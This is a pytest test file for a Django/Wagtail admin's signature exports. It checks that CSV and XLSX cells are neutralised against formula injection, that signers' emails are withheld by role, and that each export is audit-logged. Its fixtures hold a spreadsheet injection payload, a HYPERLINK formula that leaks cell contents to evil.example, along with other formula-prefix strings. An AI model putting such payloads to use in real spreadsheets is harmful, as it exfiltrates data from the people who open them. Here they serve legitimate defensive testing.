"""Admin exports: cells never run as formulas nor break a workbook, signers' emails
go only to those allowed to contact signers, and each export is in the audit log."""

import csv
import io

import openpyxl
import pyotp
import pytest
from django.contrib.auth.models import Group, Permission
from django.utils import timezone
from wagtail.admin.viewsets import viewsets
from wagtail.models import ModelLogEntry

from accounts.audit import EXPORT_ACTION
from campaigns.choices import SignatureStatus
from campaigns.models import Signature
from solidarity.exports import SafeExportMixin, spreadsheet_text
from tests.conftest import admin_in_english, make_user, sign_in_with_totp

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def signed_in(client, django_user_model, *, email, group=None, **extra):
    secret = pyotp.random_base32()
    user = make_user(
        django_user_model, email=email, group=group, totp_secret=secret, **extra
    )
    return sign_in_with_totp(client, admin_in_english(user), secret), user


@pytest.fixture
def moderator(client, django_user_model, home_pages):
    return signed_in(
        client, django_user_model, email="mod@example.org", group="Moderators"
    )


@pytest.fixture
def editor(client, django_user_model, home_pages):
    return signed_in(client, django_user_model, email="ed@example.org", group="Editors")


@pytest.fixture
def superuser(client, django_user_model, home_pages):
    return signed_in(
        client,
        django_user_model,
        email="root@example.org",
        is_superuser=True,
        is_staff=True,
    )


@pytest.fixture
def signatures(statement):
    def make(name, email):
        return Signature.objects.create(
            statement_key=statement.translation_key,
            kind="individual",
            name=name,
            country="UA",
            email=email,
            email_digest=email.ljust(64, "x")[:64],
            status=SignatureStatus.CONFIRMED,
            confirmed_at=timezone.now(),
        )

    # Rows as old data may hold them: signed before names were cleaned.
    return [
        make(HYPERLINK, "formula@example.org"),
        make("Olena\x07\x1b\u202e Kovalenko", "olena@example.org"),
    ]


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def export_entries():
    return ModelLogEntry.objects.filter(action=EXPORT_ACTION)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\x00\u202e=cmd", "'=cmd"),  # what hid the formula is gone first
        ("Olena\x07 Kovalenko", "Olena Kovalenko"),
        ("line one\nline two", "line one\nline two"),
        ("Memorial Support", "Memorial Support"),
    ],
)
def test_a_cell_holds_text_that_cannot_run_as_a_formula(value, cell):
    assert spreadsheet_text(value) == cell


def test_a_formula_in_a_name_comes_out_of_the_csv_as_text(superuser, signatures):
    client, _ = superuser

    rows = csv_rows(client.get("/admin/signatures/?export=csv"))

    names = [row[rows[0].index("Name")] for row in rows[1:]]
    assert "'" + HYPERLINK in names
    assert HYPERLINK not in names


def test_the_xlsx_export_of_names_with_control_characters_is_a_valid_workbook(
    superuser, signatures
):
    client, _ = superuser

    response = client.get("/admin/signatures/?export=xlsx")

    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(workbook.active.iter_rows(values_only=True))
    names = [row[rows[0].index("Name")] for row in rows[1:]]
    assert sorted(names) == sorted(["Olena Kovalenko", "'" + HYPERLINK])


@pytest.mark.parametrize("who", ["moderator", "editor"])
def test_editors_and_moderators_export_signatures_without_emails(
    request, signatures, who
):
    client, _ = request.getfixturevalue(who)

    response = client.get("/admin/signatures/?export=csv")

    assert response.status_code == 200
    rows = csv_rows(response)
    assert "Email" not in rows[0]
    assert "Name" in rows[0]
    assert len(rows) == 3
    assert "@example.org" not in repr(rows)


def test_a_superuser_exports_signatures_with_their_emails(superuser, signatures):
    client, _ = superuser

    rows = csv_rows(client.get("/admin/signatures/?export=csv"))

    emails = [row[rows[0].index("Email")] for row in rows[1:]]
    assert sorted(emails) == ["formula@example.org", "olena@example.org"]


def test_no_staff_group_may_export_signers_emails_until_the_network_decides(
    client, django_user_model, home_pages, signatures
):
    assert not Group.objects.filter(
        permissions__codename="export_signer_emails"
    ).exists()
    contacts = Group.objects.get(name="Moderators")
    contacts.permissions.add(Permission.objects.get(codename="export_signer_emails"))
    staff, _ = signed_in(
        client, django_user_model, email="m@example.org", group="Moderators"
    )

    rows = csv_rows(staff.get("/admin/signatures/?export=csv"))

    assert "Email" in rows[0]


def test_a_moderator_sees_a_signatures_email_domain_but_not_its_address(
    moderator, signatures
):
    client, _ = moderator

    html = client.get(f"/admin/signatures/inspect/{signatures[1].pk}/").content
    html = html.decode()

    assert "Email domain" in html
    assert "example.org" in html
    assert "olena@example.org" not in html


def test_a_superuser_sees_a_signatures_email_address(superuser, signatures):
    client, _ = superuser

    html = client.get(f"/admin/signatures/inspect/{signatures[1].pk}/").content

    assert "olena@example.org" in html.decode()


def test_each_export_writes_one_audit_entry_with_user_model_and_row_count(
    moderator, signatures
):
    client, user = moderator

    client.get("/admin/signatures/?export=csv&status=confirmed")
    client.get("/admin/signatures/?export=xlsx&q=Olena")

    first, second = export_entries().order_by("timestamp")
    assert first.user == user and second.user == user
    assert first.data["model"] == "campaigns.signature"
    assert (first.data["format"], first.data["rows"]) == ("csv", 2)
    assert (second.data["format"], second.data["rows"]) == ("xlsx", 1)
    assert first.data["withheld"] == ["email"]
    assert "email" not in first.data["columns"]
    assert first.data["filters"] == {"status": ["confirmed"]}
    assert second.data["filters"] == {"q": ["Olena"]}


def test_browsing_the_listing_writes_no_audit_entry(moderator, signatures):
    client, _ = moderator

    client.get("/admin/signatures/")

    assert not export_entries().exists()


def test_exports_show_in_the_site_history_to_superusers_only(
    superuser, signatures, django_user_model
):
    client, _ = superuser
    client.get("/admin/signatures/?export=csv")
    moderator = make_user(django_user_model, email="m2@example.org", group="Moderators")

    html = client.get("/admin/reports/site-history/").content.decode()

    assert "Exported 2 rows as CSV" in html
    assert "email" in html  # the columns, emails included
    assert not ModelLogEntry.objects.viewable_by_user(moderator).filter(
        action=EXPORT_ACTION
    )


def test_every_admin_export_goes_through_the_safe_export_mixin():
    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if isinstance(getattr(viewset, "list_export", None), list | tuple)
        and viewset.list_export
    ]

    assert {type(v).__name__ for v in exporting} >= {
        "SignatureViewSet",
        "DonationViewSet",
        "OutboxViewSet",
    }
    for viewset in exporting:
        assert issubclass(viewset.index_view_class, SafeExportMixin), viewset


def test_a_moderator_cannot_find_signatures_by_their_email(moderator, signatures):
    client, _ = moderator

    by_email = client.get("/admin/signatures/?q=olena@").content.decode()
    by_name = client.get("/admin/signatures/?q=Kovalenko").content.decode()

    assert "Kovalenko" not in by_email
    assert "Kovalenko" in by_name


def test_a_superuser_finds_a_signature_by_its_email(superuser, signatures):
    client, _ = superuser

    assert "Kovalenko" in client.get("/admin/signatures/?q=olena@").content.decode()
